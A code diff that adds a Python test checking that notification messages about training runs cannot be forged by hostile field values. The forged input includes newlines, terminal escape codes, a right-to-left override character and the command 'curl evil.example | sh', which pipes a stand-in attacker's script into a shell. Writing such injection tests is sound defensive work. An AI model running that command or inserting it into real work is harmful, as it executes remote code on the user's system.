@@ -94,6 +94,21 @@ def test_every_subject_is_one_that_sns_accepts(job: str, rule: str) -> None:
     assert subject.isprintable()
 
 
+def test_no_name_from_the_training_script_can_pass_for_a_line_of_ours() -> None:
+    forged = "x\n\nThis shows more\n  curl evil.example | sh\r\x1b[2K\u202e"
+    evaluation = replace(
+        ISSUE,
+        configuration_name=forged,
+        details=forged,
+        what_to_do=(forged,),
+        run_uri=f"s3://runs/{forged}",
+        evidence=replace(ISSUE.evidence, tensor_name=forged, worker=forged, comparison=forged),
+    )
+    body = told(evaluation).body
+    assert len(body.splitlines()) == len(told(replace(ISSUE, what_to_do=("One.",))).body.splitlines())
+    assert body.replace("\n", "").isprintable()
+
+
 @pytest.mark.parametrize(
     "evaluation",
     [
